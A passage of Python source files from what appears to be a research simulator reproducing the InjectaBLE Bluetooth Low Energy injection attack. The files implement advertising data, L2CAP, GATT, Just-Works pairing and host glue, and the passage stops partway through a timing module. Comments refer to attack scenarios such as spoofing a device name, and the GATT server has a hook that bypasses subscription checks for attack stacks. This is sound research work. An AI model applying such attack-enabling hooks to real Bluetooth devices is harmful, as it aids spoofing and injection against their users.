            raise CodecError("AD structure too long")
        return bytes([len(self.data) + 1, self.ad_type]) + self.data


def build_adv_data(*elements: AdElement) -> bytes:
    """Concatenate AD structures into an AdvData payload (max 31 bytes)."""
    out = b"".join(e.to_bytes() for e in elements)
    if len(out) > 31:
        raise CodecError(f"AdvData too long: {len(out)} bytes")
    return out


def adv_data_with_name(name: str, flags: int = 0x06) -> bytes:
    """Convenience: Flags + Complete Local Name."""
    return build_adv_data(
        AdElement(AD_FLAGS, bytes([flags])),
        AdElement(AD_COMPLETE_LOCAL_NAME, name.encode()),
    )


def parse_adv_data(data: bytes) -> list[AdElement]:
    """Parse an AdvData payload into AD structures."""
    elements = []
    i = 0
    while i < len(data):
        length = data[i]
        if length == 0:
            break
        if i + 1 + length > len(data):
            raise CodecError("truncated AD structure")
        elements.append(AdElement(data[i + 1], data[i + 2 : i + 1 + length]))
        i += 1 + length
    return elements


def local_name_of(data: bytes) -> str:
    """Extract the (complete or shortened) local name, or ``""``."""
    for element in parse_adv_data(data):
        if element.ad_type in (AD_COMPLETE_LOCAL_NAME, AD_SHORTENED_LOCAL_NAME):
            return element.data.decode(errors="replace")
    return ""
