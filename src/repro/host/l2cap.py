"""Minimal L2CAP: the basic-mode framing that carries ATT and SMP.

A B-frame is ``length (2) | channel id (2) | payload``.  ATT rides on CID
0x0004, the Security Manager on CID 0x0006.  Fragmentation across link
packets is not modelled: the simulation keeps ATT payloads within a single
LL PDU, as the paper's injected frames do.
"""

from __future__ import annotations

from repro.errors import HostError

#: Channel id of the Attribute Protocol.
CID_ATT = 0x0004
#: Channel id of the Security Manager Protocol.
CID_SMP = 0x0006


def l2cap_encode(cid: int, payload: bytes) -> bytes:
    """Wrap ``payload`` in a basic L2CAP frame for channel ``cid``."""
    if not 0 <= cid < 1 << 16:
        raise HostError(f"invalid L2CAP CID: {cid:#x}")
    if len(payload) >= 1 << 16:
        raise HostError(f"L2CAP payload too long: {len(payload)}")
    return len(payload).to_bytes(2, "little") + cid.to_bytes(2, "little") + payload


def l2cap_decode(frame: bytes) -> tuple[int, bytes]:
    """Unwrap a basic L2CAP frame; returns ``(cid, payload)``."""
    if len(frame) < 4:
        raise HostError(f"L2CAP frame too short: {len(frame)} bytes")
    length = int.from_bytes(frame[0:2], "little")
    cid = int.from_bytes(frame[2:4], "little")
    payload = frame[4:]
    if len(payload) != length:
        raise HostError(
            f"L2CAP length mismatch: header {length}, payload {len(payload)}"
        )
    return cid, payload
