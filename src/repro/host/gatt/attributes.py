"""GATT schema objects: services and characteristics.

A :class:`Service` groups :class:`Characteristic` objects; the GATT server
flattens them into the ATT database in specification order (service
declaration, then per characteristic: declaration, value, optional CCCD).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Optional

from repro.errors import HostError
from repro.host.gatt.uuids import (
    PROP_INDICATE,
    PROP_NOTIFY,
    PROP_READ,
    PROP_WRITE,
    PROP_WRITE_NO_RSP,
)

#: Application hook invoked when a characteristic value is written.
CharWriteHook = Callable[[bytes], None]
#: Application hook producing a characteristic value on read.
CharReadHook = Callable[[], bytes]


@dataclass
class Characteristic:
    """A GATT characteristic.

    Attributes:
        uuid: 16-bit characteristic UUID.
        value: initial value.
        read / write / write_no_rsp / notify / indicate: property flags.
        on_write: application hook for writes (after the value updates).
        on_read: application hook producing the value for reads.
        value_handle: assigned when the service is registered.
        cccd_handle: handle of the CCCD, when notify/indicate is set.
    """

    uuid: int
    value: bytes = b""
    read: bool = True
    write: bool = False
    write_no_rsp: bool = False
    notify: bool = False
    indicate: bool = False
    on_write: Optional[CharWriteHook] = None
    on_read: Optional[CharReadHook] = None
    value_handle: int = 0
    cccd_handle: int = 0

    @property
    def properties(self) -> int:
        """The property bit field of the declaration attribute."""
        props = 0
        if self.read:
            props |= PROP_READ
        if self.write:
            props |= PROP_WRITE
        if self.write_no_rsp:
            props |= PROP_WRITE_NO_RSP
        if self.notify:
            props |= PROP_NOTIFY
        if self.indicate:
            props |= PROP_INDICATE
        return props

    @property
    def writable(self) -> bool:
        """Whether any write property is set."""
        return self.write or self.write_no_rsp

    def declaration_value(self) -> bytes:
        """Value bytes of the 0x2803 declaration attribute."""
        if self.value_handle == 0:
            raise HostError(f"characteristic 0x{self.uuid:04X} not registered")
        return (bytes([self.properties])
                + self.value_handle.to_bytes(2, "little")
                + self.uuid.to_bytes(2, "little"))


@dataclass
class Service:
    """A GATT primary service.

    Attributes:
        uuid: 16-bit service UUID.
        characteristics: contained characteristics, declaration order.
    """

    uuid: int
    characteristics: list[Characteristic] = field(default_factory=list)

    def add(self, characteristic: Characteristic) -> Characteristic:
        """Append a characteristic and return it."""
        self.characteristics.append(characteristic)
        return characteristic

    def find(self, uuid: int) -> Optional[Characteristic]:
        """First characteristic with the given UUID, or ``None``."""
        for char in self.characteristics:
            if char.uuid == uuid:
                return char
        return None
