"""Assigned 16-bit UUIDs used by the simulated devices."""

from __future__ import annotations

#: Attribute type of a primary service declaration.
UUID_PRIMARY_SERVICE = 0x2800
#: Attribute type of a characteristic declaration.
UUID_CHARACTERISTIC = 0x2803
#: Client Characteristic Configuration Descriptor.
UUID_CCCD = 0x2902

#: Generic Access Profile service.
UUID_GAP_SERVICE = 0x1800
#: Device Name characteristic (the one Scenario B spoofs as "Hacked").
UUID_DEVICE_NAME = 0x2A00
#: Appearance characteristic.
UUID_APPEARANCE = 0x2A01
#: Battery service / level.
UUID_BATTERY_SERVICE = 0x180F
UUID_BATTERY_LEVEL = 0x2A19
#: Immediate Alert service (keyfobs) and Alert Level characteristic.
UUID_IMMEDIATE_ALERT_SERVICE = 0x1802
UUID_ALERT_LEVEL = 0x2A06

#: Characteristic property bits (in the declaration value).
PROP_READ = 0x02
PROP_WRITE_NO_RSP = 0x04
PROP_WRITE = 0x08
PROP_NOTIFY = 0x10
PROP_INDICATE = 0x20
