"""GATT client: discovery and characteristic access over an ATT client."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Optional

from repro.host.att.client import AttClient
from repro.host.att.pdus import (
    AttPdu,
    ErrorRsp,
    FindInformationRsp,
    ReadByGroupTypeRsp,
    ReadByTypeRsp,
    ReadRsp,
    WriteRsp,
)
from repro.host.gatt.uuids import UUID_CCCD, UUID_CHARACTERISTIC


@dataclass
class DiscoveredCharacteristic:
    """A characteristic found during discovery."""

    uuid: int
    properties: int
    declaration_handle: int
    value_handle: int
    cccd_handle: int = 0


@dataclass
class DiscoveredService:
    """A primary service found during discovery."""

    uuid: int
    start_handle: int
    end_handle: int
    characteristics: list[DiscoveredCharacteristic] = field(default_factory=list)


class GattClient:
    """Discovery + read/write/subscribe helpers over :class:`AttClient`.

    The discovery routines are deliberately simple (single Read By Group
    Type / Read By Type sweeps) — enough to drive the simulated devices and
    the attack scenarios.
    """

    def __init__(self, att: AttClient):
        self.att = att
        self.services: list[DiscoveredService] = []
        self.att.on_notification = self._on_notification
        #: Application hook for notifications: (value_handle, value).
        self.on_notification: Optional[Callable[[int, bytes], None]] = None

    def _on_notification(self, handle: int, value: bytes) -> None:
        if self.on_notification is not None:
            self.on_notification(handle, value)

    # ------------------------------------------------------------------
    # Discovery
    # ------------------------------------------------------------------

    def discover_services(self, done: Optional[Callable[[], None]] = None) -> None:
        """Discover primary services, then their characteristics."""
        self.services = []

        def on_services(pdu: AttPdu) -> None:
            if isinstance(pdu, ReadByGroupTypeRsp):
                for start, end, value in pdu.records:
                    self.services.append(
                        DiscoveredService(
                            uuid=int.from_bytes(value, "little"),
                            start_handle=start,
                            end_handle=end,
                        )
                    )
            self._discover_characteristics(list(self.services), done)

        self.att.read_by_group_type(on_services)

    def _discover_characteristics(
        self, remaining: list[DiscoveredService],
        done: Optional[Callable[[], None]],
    ) -> None:
        if not remaining:
            if done is not None:
                done()
            return
        service = remaining.pop(0)

        def on_chars(pdu: AttPdu) -> None:
            if isinstance(pdu, ReadByTypeRsp):
                for handle, value in pdu.records:
                    if len(value) >= 5:
                        service.characteristics.append(
                            DiscoveredCharacteristic(
                                uuid=int.from_bytes(value[3:5], "little"),
                                properties=value[0],
                                declaration_handle=handle,
                                value_handle=int.from_bytes(value[1:3], "little"),
                            )
                        )
            self._discover_characteristics(remaining, done)

        self.att.read_by_type(
            UUID_CHARACTERISTIC, on_chars,
            start=service.start_handle, end=service.end_handle,
        )

    def find_characteristic(self, uuid: int) -> Optional[DiscoveredCharacteristic]:
        """Look up a discovered characteristic by UUID."""
        for service in self.services:
            for char in service.characteristics:
                if char.uuid == uuid:
                    return char
        return None

    # ------------------------------------------------------------------
    # Access
    # ------------------------------------------------------------------

    def read(self, value_handle: int,
             callback: Callable[[Optional[bytes]], None]) -> None:
        """Read a value; callback gets ``None`` on an ATT error."""

        def on_rsp(pdu: AttPdu) -> None:
            callback(pdu.value if isinstance(pdu, ReadRsp) else None)

        self.att.read(value_handle, on_rsp)

    def write(self, value_handle: int, value: bytes,
              callback: Optional[Callable[[bool], None]] = None) -> None:
        """Write with response; callback gets success/failure."""

        def on_rsp(pdu: AttPdu) -> None:
            if callback is not None:
                callback(isinstance(pdu, WriteRsp))

        self.att.write(value_handle, value, on_rsp)

    def write_command(self, value_handle: int, value: bytes) -> None:
        """Unacknowledged write."""
        self.att.write_command(value_handle, value)

    def subscribe(self, char: DiscoveredCharacteristic,
                  indications: bool = False,
                  callback: Optional[Callable[[bool], None]] = None) -> None:
        """Write the CCCD next to ``char`` to enable notifications.

        The CCCD handle is assumed to be ``value_handle + 1`` when it was
        not discovered explicitly, matching this library's server layout.
        """
        cccd = char.cccd_handle or (char.value_handle + 1)
        value = b"\x02\x00" if indications else b"\x01\x00"

        def on_rsp(pdu: AttPdu) -> None:
            if callback is not None:
                callback(isinstance(pdu, WriteRsp))

        self.att.write(cccd, value, on_rsp)
