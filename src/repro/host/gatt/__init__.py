"""GATT: services, characteristics and the server/client built on ATT."""

from repro.host.gatt.attributes import Characteristic, Service
from repro.host.gatt.client import GattClient
from repro.host.gatt.server import GattServer
from repro.host.gatt.uuids import (
    UUID_BATTERY_SERVICE,
    UUID_CCCD,
    UUID_CHARACTERISTIC,
    UUID_DEVICE_NAME,
    UUID_GAP_SERVICE,
    UUID_PRIMARY_SERVICE,
)

__all__ = [
    "Characteristic",
    "GattClient",
    "GattServer",
    "Service",
    "UUID_BATTERY_SERVICE",
    "UUID_CCCD",
    "UUID_CHARACTERISTIC",
    "UUID_DEVICE_NAME",
    "UUID_GAP_SERVICE",
    "UUID_PRIMARY_SERVICE",
]
