"""GATT server: registers services into an ATT database and serves them.

Also owns server-initiated traffic: notifications and indications, gated on
the CCCD the client writes (the smartwatch's SMS characteristic works this
way in the Scenario A/D experiments).
"""

from __future__ import annotations

from typing import Callable, Optional

from repro.errors import HostError
from repro.host.att.pdus import HandleValueInd, HandleValueNtf
from repro.host.att.server import AttributeDb, AttServer, Attribute
from repro.host.gatt.attributes import Characteristic, Service
from repro.host.gatt.uuids import (
    UUID_CCCD,
    UUID_CHARACTERISTIC,
    UUID_PRIMARY_SERVICE,
)


class GattServer:
    """A GATT server over an ATT server.

    Args:
        send: callable delivering raw ATT bytes to the connected client
            (used for notifications/indications); may be swapped after
            construction via :attr:`send`.
        mtu: ATT MTU.
    """

    def __init__(self, send: Optional[Callable[[bytes], None]] = None,
                 mtu: int = 23):
        self.db = AttributeDb()
        self.att = AttServer(self.db, mtu=mtu)
        self.send = send
        self.services: list[Service] = []

    # ------------------------------------------------------------------
    # Registration
    # ------------------------------------------------------------------

    def register(self, service: Service) -> Service:
        """Flatten ``service`` into the ATT database."""
        self.db.allocate(
            UUID_PRIMARY_SERVICE,
            value=service.uuid.to_bytes(2, "little"),
            readable=True,
        )
        for char in service.characteristics:
            self._register_characteristic(char)
        self.services.append(service)
        return service

    def _register_characteristic(self, char: Characteristic) -> None:
        decl = self.db.allocate(UUID_CHARACTERISTIC, readable=True)
        value_attr = self.db.allocate(
            char.uuid,
            value=char.value,
            readable=char.read,
            writable=char.writable,
        )
        char.value_handle = value_attr.handle
        decl.value = char.declaration_value()

        def write_hook(_handle: int, value: bytes, c=char) -> None:
            c.value = value
            if c.on_write is not None:
                c.on_write(value)

        def read_hook(_handle: int, c=char) -> bytes:
            if c.on_read is not None:
                return c.on_read()
            return c.value

        value_attr.write_hook = write_hook
        value_attr.read_hook = read_hook
        if char.notify or char.indicate:
            cccd = self.db.allocate(
                UUID_CCCD, value=b"\x00\x00", readable=True, writable=True
            )
            char.cccd_handle = cccd.handle

    def find_characteristic(self, uuid: int) -> Optional[Characteristic]:
        """Search every service for a characteristic UUID."""
        for service in self.services:
            char = service.find(uuid)
            if char is not None:
                return char
        return None

    # ------------------------------------------------------------------
    # Traffic
    # ------------------------------------------------------------------

    def handle_request(self, request: bytes) -> Optional[bytes]:
        """Serve one incoming ATT PDU."""
        return self.att.handle_request(request)

    def _subscribed(self, char: Characteristic, bit: int) -> bool:
        if char.cccd_handle == 0:
            return False
        cccd = self.db.get(char.cccd_handle)
        assert cccd is not None
        value = int.from_bytes(cccd.value or b"\x00\x00", "little")
        return bool(value & bit)

    def notify(self, char: Characteristic, value: bytes,
               force: bool = False) -> bool:
        """Send a Handle Value Notification if the client subscribed.

        Args:
            char: the characteristic to notify on.
            value: new value (also stored).
            force: bypass the CCCD check (used by attack stacks).

        Returns:
            Whether a notification was actually sent.
        """
        if self.send is None:
            raise HostError("GATT server has no transport")
        char.value = value
        if not force and not self._subscribed(char, 0x0001):
            return False
        self.send(HandleValueNtf(char.value_handle, value).to_bytes())
        return True

    def indicate(self, char: Characteristic, value: bytes) -> bool:
        """Send a Handle Value Indication if the client subscribed."""
        if self.send is None:
            raise HostError("GATT server has no transport")
        char.value = value
        if not self._subscribed(char, 0x0002):
            return False
        self.send(HandleValueInd(char.value_handle, value).to_bytes())
        return True
