"""Host stack: L2CAP framing, ATT protocol, GATT profiles, GAP data, pairing."""

from repro.host.att.client import AttClient
from repro.host.att.server import Attribute, AttributeDb, AttServer
from repro.host.gatt.attributes import Characteristic, Service
from repro.host.gatt.client import GattClient
from repro.host.gatt.server import GattServer
from repro.host.gap import AdElement, build_adv_data, parse_adv_data
from repro.host.l2cap import CID_ATT, CID_SMP, l2cap_decode, l2cap_encode

__all__ = [
    "AdElement",
    "AttClient",
    "AttServer",
    "Attribute",
    "AttributeDb",
    "CID_ATT",
    "CID_SMP",
    "Characteristic",
    "GattClient",
    "GattServer",
    "Service",
    "build_adv_data",
    "l2cap_decode",
    "l2cap_encode",
    "parse_adv_data",
]
