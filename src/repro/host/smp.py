"""Security Manager Protocol: legacy Just-Works pairing (simplified flow).

Runs over L2CAP CID 0x0006.  The initiator and responder exchange Pairing
Request/Response, confirm values (``c1``) and randoms, then derive the STK
with ``s1``.  With Just Works the TK is all zeros — which is why Ryan's
CRACKLE could brute-force sniffed pairings, and why the paper recommends
real pairing + encryption as the countermeasure that at least degrades
InjectaBLE to denial of service.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Callable, Optional

import numpy as np

from repro.crypto.pairing import c1, s1
from repro.errors import SecurityError

#: SMP opcode bytes.
OP_PAIRING_REQUEST = 0x01
OP_PAIRING_RESPONSE = 0x02
OP_PAIRING_CONFIRM = 0x03
OP_PAIRING_RANDOM = 0x04
OP_PAIRING_FAILED = 0x05


@dataclass(frozen=True)
class PairingFeatures:
    """The 6 feature bytes of Pairing Request/Response.

    Attributes:
        io_capability: 0x03 = NoInputNoOutput (forces Just Works).
        oob: out-of-band flag.
        auth_req: bonding/MITM flags.
        max_key_size: encryption key size (paper: KNOB attacks this).
        initiator_keys / responder_keys: key-distribution masks.
    """

    io_capability: int = 0x03
    oob: int = 0x00
    auth_req: int = 0x01
    max_key_size: int = 16
    initiator_keys: int = 0x00
    responder_keys: int = 0x00

    def to_bytes(self, opcode: int) -> bytes:
        """Encode as a 7-byte pairing PDU under ``opcode``."""
        return bytes([
            opcode, self.io_capability, self.oob, self.auth_req,
            self.max_key_size, self.initiator_keys, self.responder_keys,
        ])

    @classmethod
    def from_bytes(cls, data: bytes) -> "PairingFeatures":
        """Decode a 7-byte pairing PDU."""
        if len(data) != 7:
            raise SecurityError(f"pairing PDU must be 7 bytes, got {len(data)}")
        return cls(io_capability=data[1], oob=data[2], auth_req=data[3],
                   max_key_size=data[4], initiator_keys=data[5],
                   responder_keys=data[6])


class PairingState(enum.Enum):
    """Progress of the pairing exchange."""

    IDLE = "idle"
    FEATURES = "features"
    CONFIRM = "confirm"
    RANDOM = "random"
    DONE = "done"
    FAILED = "failed"


class SecurityManager:
    """One side of a legacy Just-Works pairing.

    Args:
        send: delivers raw SMP bytes to the peer (over L2CAP CID 6).
        is_initiator: Master side when True.
        local_addr / peer_addr: 6-byte little-endian addresses (c1 inputs).
        rng: randomness source for the pairing random.
        tk: 16-byte temporary key; zeros = Just Works.
    """

    def __init__(
        self,
        send: Callable[[bytes], None],
        is_initiator: bool,
        local_addr: bytes,
        peer_addr: bytes,
        rng: Optional[np.random.Generator] = None,
        tk: bytes = b"\x00" * 16,
    ):
        self._send = send
        self.is_initiator = is_initiator
        self.local_addr = local_addr
        self.peer_addr = peer_addr
        self._rng = rng if rng is not None else np.random.default_rng()
        self.tk = tk
        self.state = PairingState.IDLE
        self.stk: Optional[bytes] = None
        self.on_complete: Optional[Callable[[bytes], None]] = None
        self._local_random = bytes(self._rng.integers(0, 256, 16, dtype=np.uint8))
        self._peer_confirm: Optional[bytes] = None
        self._peer_random: Optional[bytes] = None
        self._preq: Optional[bytes] = None
        self._pres: Optional[bytes] = None
        self.features = PairingFeatures()

    # ------------------------------------------------------------------
    # Flow
    # ------------------------------------------------------------------

    def start(self) -> None:
        """Initiator entry point: send Pairing Request."""
        if not self.is_initiator:
            raise SecurityError("only the initiator starts pairing")
        self._preq = self.features.to_bytes(OP_PAIRING_REQUEST)
        self.state = PairingState.FEATURES
        self._send(self._preq)

    def _confirm_value(self, rand: bytes) -> bytes:
        # c1 expects MSB-first quantities; PDUs and addresses are held in
        # on-wire (LSB-first) order here, so reverse them.
        assert self._preq is not None and self._pres is not None
        ia, ra = (self.local_addr, self.peer_addr) if self.is_initiator else (
            self.peer_addr, self.local_addr)
        return c1(self.tk, rand, self._preq[::-1], self._pres[::-1], 0, 0,
                  ia[::-1], ra[::-1])

    def on_pdu(self, data: bytes) -> None:
        """Feed one incoming SMP PDU."""
        if not data:
            return
        opcode = data[0]
        if opcode == OP_PAIRING_REQUEST and not self.is_initiator:
            self._preq = data
            self._pres = self.features.to_bytes(OP_PAIRING_RESPONSE)
            self.state = PairingState.CONFIRM
            self._send(self._pres)
        elif opcode == OP_PAIRING_RESPONSE and self.is_initiator:
            self._pres = data
            self.state = PairingState.CONFIRM
            confirm = self._confirm_value(self._local_random)
            self._send(bytes([OP_PAIRING_CONFIRM]) + confirm)
        elif opcode == OP_PAIRING_CONFIRM:
            self._peer_confirm = data[1:]
            if self.is_initiator:
                # Initiator already sent its confirm; reveal the random.
                self.state = PairingState.RANDOM
                self._send(bytes([OP_PAIRING_RANDOM]) + self._local_random)
            else:
                confirm = self._confirm_value(self._local_random)
                self._send(bytes([OP_PAIRING_CONFIRM]) + confirm)
        elif opcode == OP_PAIRING_RANDOM:
            self._peer_random = data[1:]
            if not self._verify_peer():
                self.state = PairingState.FAILED
                self._send(bytes([OP_PAIRING_FAILED, 0x04]))
                return
            if not self.is_initiator:
                self._send(bytes([OP_PAIRING_RANDOM]) + self._local_random)
            self._finish()
        elif opcode == OP_PAIRING_FAILED:
            self.state = PairingState.FAILED

    def _verify_peer(self) -> bool:
        assert self._peer_random is not None
        if self._peer_confirm is None:
            return False
        expected = self._confirm_value(self._peer_random)
        return expected == self._peer_confirm

    def _finish(self) -> None:
        assert self._peer_random is not None
        if self.is_initiator:
            srand, mrand = self._peer_random, self._local_random
        else:
            srand, mrand = self._local_random, self._peer_random
        self.stk = s1(self.tk, srand, mrand)
        self.state = PairingState.DONE
        if self.on_complete is not None:
            self.on_complete(self.stk)
