"""Host glue: binds a Link-Layer device to GATT and the Security Manager.

:class:`PeripheralHost` owns a GATT server over a Slave LL;
:class:`CentralHost` owns a GATT client over a Master LL.  Both route
L2CAP channels (ATT on CID 4, SMP on CID 6) and expose pairing that ends
with link encryption enabled, reproducing the paper's recommended
countermeasure configuration.
"""

from __future__ import annotations

from typing import Callable, Optional

from repro.host.att.client import AttClient
from repro.host.gatt.client import GattClient
from repro.host.gatt.server import GattServer
from repro.host.l2cap import CID_ATT, CID_SMP, l2cap_decode, l2cap_encode
from repro.host.smp import SecurityManager
from repro.ll.master import MasterLinkLayer
from repro.ll.slave import SlaveLinkLayer


class PeripheralHost:
    """GATT server + SMP responder over a Slave Link Layer.

    Args:
        ll: the Slave Link-Layer device.
        gatt: the GATT server to expose (its transport is wired here).
    """

    def __init__(self, ll: SlaveLinkLayer, gatt: GattServer):
        self.ll = ll
        self.gatt = gatt
        self.gatt.send = self.send_att
        self.ll.on_data = self._on_l2cap
        self.smp: Optional[SecurityManager] = None
        #: Called with the STK when pairing completes.
        self.on_paired: Optional[Callable[[bytes], None]] = None

    def send_att(self, att_bytes: bytes) -> None:
        """Queue an ATT PDU toward the Central."""
        self.ll.send_data(l2cap_encode(CID_ATT, att_bytes))

    def send_smp(self, smp_bytes: bytes) -> None:
        """Queue an SMP PDU toward the Central."""
        self.ll.send_data(l2cap_encode(CID_SMP, smp_bytes))

    def _on_l2cap(self, frame: bytes) -> None:
        try:
            cid, payload = l2cap_decode(frame)
        except Exception:
            return
        if cid == CID_ATT:
            response = self.gatt.handle_request(payload)
            if response is not None:
                self.send_att(response)
        elif cid == CID_SMP:
            self._on_smp(payload)

    def _on_smp(self, payload: bytes) -> None:
        if self.smp is None:
            peer = (self.ll.peer_address.to_bytes()
                    if self.ll.peer_address is not None else b"\x00" * 6)
            self.smp = SecurityManager(
                send=self.send_smp,
                is_initiator=False,
                local_addr=self.ll.address.to_bytes(),
                peer_addr=peer,
                rng=self.ll.sim.streams.get(f"smp-{self.ll.name}"),
            )
            self.smp.on_complete = self._on_stk
        self.smp.on_pdu(payload)

    def _on_stk(self, stk: bytes) -> None:
        # The STK becomes the key LL_ENC_REQ will reference.
        self.ll.ltk = stk
        if self.on_paired is not None:
            self.on_paired(stk)


class CentralHost:
    """GATT client + SMP initiator over a Master Link Layer.

    Args:
        ll: the Master Link-Layer device.
    """

    def __init__(self, ll: MasterLinkLayer):
        self.ll = ll
        self.att = AttClient(send=self.send_att)
        self.gatt = GattClient(self.att)
        self.ll.on_data = self._on_l2cap
        self.smp: Optional[SecurityManager] = None
        #: Called with the STK when pairing completes.
        self.on_paired: Optional[Callable[[bytes], None]] = None
        self._encrypt_after_pairing = True

    def send_att(self, att_bytes: bytes) -> None:
        """Queue an ATT PDU toward the Peripheral."""
        self.ll.send_data(l2cap_encode(CID_ATT, att_bytes))

    def send_smp(self, smp_bytes: bytes) -> None:
        """Queue an SMP PDU toward the Peripheral."""
        self.ll.send_data(l2cap_encode(CID_SMP, smp_bytes))

    def pair(self, encrypt: bool = True) -> None:
        """Run Just-Works legacy pairing; optionally start encryption."""
        self._encrypt_after_pairing = encrypt
        peer = (self.ll.peer_address.to_bytes()
                if self.ll.peer_address is not None else b"\x00" * 6)
        self.smp = SecurityManager(
            send=self.send_smp,
            is_initiator=True,
            local_addr=self.ll.address.to_bytes(),
            peer_addr=peer,
            rng=self.ll.sim.streams.get(f"smp-{self.ll.name}"),
        )
        self.smp.on_complete = self._on_stk
        self.smp.start()

    def _on_stk(self, stk: bytes) -> None:
        if self._encrypt_after_pairing:
            self.ll.start_encryption(stk)
        if self.on_paired is not None:
            self.on_paired(stk)

    def _on_l2cap(self, frame: bytes) -> None:
        try:
            cid, payload = l2cap_decode(frame)
        except Exception:
            return
        if cid == CID_ATT:
            self.att.on_pdu(payload)
        elif cid == CID_SMP and self.smp is not None:
            self.smp.on_pdu(payload)
