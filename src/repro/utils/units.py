"""Time units and spec constants.

All simulator timestamps are floats in **microseconds**; BLE's Link-Layer
arithmetic is specified in multiples of 1.25 ms slots and the 150 µs
inter-frame spacing, both defined here.
"""

from __future__ import annotations

MICROSECONDS_PER_SECOND = 1_000_000

#: Parts-per-million divisor used by sleep-clock-accuracy arithmetic.
PPM = 1_000_000

#: BLE Link-Layer time slot: WinSize/WinOffset/HopInterval are multiples of this.
SLOT_US = 1250.0

#: Inter-frame spacing between packets of the same connection event (T_IFS).
T_IFS_US = 150.0


def ms_to_us(milliseconds: float) -> float:
    """Convert milliseconds to microseconds."""
    return milliseconds * 1000.0


def s_to_us(seconds: float) -> float:
    """Convert seconds to microseconds."""
    return seconds * float(MICROSECONDS_PER_SECOND)


def ppm_drift_us(sca_ppm: float, interval_us: float) -> float:
    """Worst-case clock drift accumulated over ``interval_us`` at ``sca_ppm``.

    This is the core term of the window-widening formula (paper eq. 4/5):
    a clock accurate to ``sca_ppm`` parts per million may drift by
    ``sca_ppm / 1e6 * interval_us`` microseconds over the interval.
    """
    if sca_ppm < 0:
        raise ValueError(f"negative sleep clock accuracy: {sca_ppm}")
    if interval_us < 0:
        raise ValueError(f"negative interval: {interval_us}")
    return sca_ppm / PPM * interval_us
