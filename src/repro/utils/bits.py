"""Bit- and byte-level helpers used throughout the PHY and Link-Layer codecs.

BLE transmits least-significant bit first and encodes multi-byte fields
little-endian; these helpers centralise those conventions so PDU codecs
stay declarative.
"""

from __future__ import annotations

from repro.errors import CodecError


def int_to_bytes_le(value: int, length: int) -> bytes:
    """Encode ``value`` as ``length`` little-endian bytes.

    Args:
        value: non-negative integer to encode.
        length: number of bytes of the output.

    Raises:
        CodecError: if the value is negative or does not fit.
    """
    if value < 0:
        raise CodecError(f"cannot encode negative value {value}")
    if value >= 1 << (8 * length):
        raise CodecError(f"value {value:#x} does not fit in {length} bytes")
    return value.to_bytes(length, "little")


def bytes_to_int_le(data: bytes) -> int:
    """Decode little-endian bytes into a non-negative integer."""
    return int.from_bytes(data, "little")


_REVERSE_TABLE = bytes(
    sum(((byte >> bit) & 1) << (7 - bit) for bit in range(8)) for byte in range(256)
)


def bit_reverse_byte(byte: int) -> int:
    """Reverse the bit order of a single byte (MSB<->LSB)."""
    if not 0 <= byte <= 0xFF:
        raise CodecError(f"byte out of range: {byte}")
    return _REVERSE_TABLE[byte]


def bit_reverse_bytes(data: bytes) -> bytes:
    """Reverse the bit order of every byte in ``data`` (byte order kept)."""
    return bytes(_REVERSE_TABLE[b] for b in data)


def extract_bits(value: int, offset: int, width: int) -> int:
    """Return ``width`` bits of ``value`` starting at bit ``offset`` (LSB=0)."""
    if offset < 0 or width <= 0:
        raise CodecError(f"invalid bit slice offset={offset} width={width}")
    return (value >> offset) & ((1 << width) - 1)


def insert_bits(value: int, offset: int, width: int, field: int) -> int:
    """Return ``value`` with ``width`` bits at ``offset`` replaced by ``field``."""
    if field < 0 or field >= 1 << width:
        raise CodecError(f"field {field} does not fit in {width} bits")
    mask = ((1 << width) - 1) << offset
    return (value & ~mask) | (field << offset)
