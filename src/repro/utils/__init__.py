"""Shared low-level utilities: byte codecs, bit fields, time units, RNG streams."""

from repro.utils.bits import (
    bit_reverse_byte,
    bit_reverse_bytes,
    bytes_to_int_le,
    extract_bits,
    insert_bits,
    int_to_bytes_le,
)
from repro.utils.rand import RngStreams
from repro.utils.units import (
    MICROSECONDS_PER_SECOND,
    PPM,
    SLOT_US,
    T_IFS_US,
    ms_to_us,
    ppm_drift_us,
    s_to_us,
)

__all__ = [
    "MICROSECONDS_PER_SECOND",
    "PPM",
    "SLOT_US",
    "T_IFS_US",
    "RngStreams",
    "bit_reverse_byte",
    "bit_reverse_bytes",
    "bytes_to_int_le",
    "extract_bits",
    "insert_bits",
    "int_to_bytes_le",
    "ms_to_us",
    "ppm_drift_us",
    "s_to_us",
]
