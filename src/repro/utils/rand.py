"""Deterministic random-number streams.

Every stochastic component of the simulation (clock drift, shadowing,
collision phase, device behaviour) draws from its own named stream derived
from a single experiment seed.  This keeps experiments reproducible and lets
components be re-ordered without perturbing each other's draws.
"""

from __future__ import annotations

import hashlib

import numpy as np


class RngStreams:
    """A family of independent :class:`numpy.random.Generator` streams.

    Streams are derived from a root seed and a string name, so the same
    ``(seed, name)`` pair always yields the same sequence regardless of
    creation order.

    Example:
        >>> streams = RngStreams(seed=7)
        >>> drift = streams.get("clock-drift")
        >>> phase = streams.get("collision-phase")
    """

    def __init__(self, seed: int) -> None:
        if seed < 0:
            raise ValueError(f"seed must be non-negative, got {seed}")
        self._seed = int(seed)
        self._streams: dict[str, np.random.Generator] = {}

    @property
    def seed(self) -> int:
        """The root seed this family was created with."""
        return self._seed

    def get(self, name: str) -> np.random.Generator:
        """Return (creating on first use) the stream called ``name``."""
        if name not in self._streams:
            self._streams[name] = np.random.default_rng(self._derive(name))
        return self._streams[name]

    def child(self, name: str) -> "RngStreams":
        """Return a new stream family deterministically derived from this one.

        Useful to give each simulated device its own namespace of streams.
        """
        return RngStreams(self._derive(name))

    def _derive(self, name: str) -> int:
        digest = hashlib.sha256(f"{self._seed}:{name}".encode()).digest()
        return int.from_bytes(digest[:8], "big")

    def __repr__(self) -> str:
        return f"RngStreams(seed={self._seed}, streams={sorted(self._streams)})"
