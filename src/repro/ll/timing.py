"""Link-Layer timing arithmetic: transmit windows and window widening.

These are the formulas the InjectaBLE attack turns against the protocol:

* **Transmit window** (paper eq. 1): after CONNECT_REQ (or a connection
  update at its instant), the first Master frame arrives inside
  ``[t_start, t_start + d_size]`` with
  ``t_start = t_ref + 1.25 ms + WinOffset * 1.25 ms`` and
  ``d_size = WinSize * 1.25 ms``.

* **Window widening** (paper eq. 4/5): the Slave opens its receive window
  ``w`` early and keeps it open ``w`` late, with
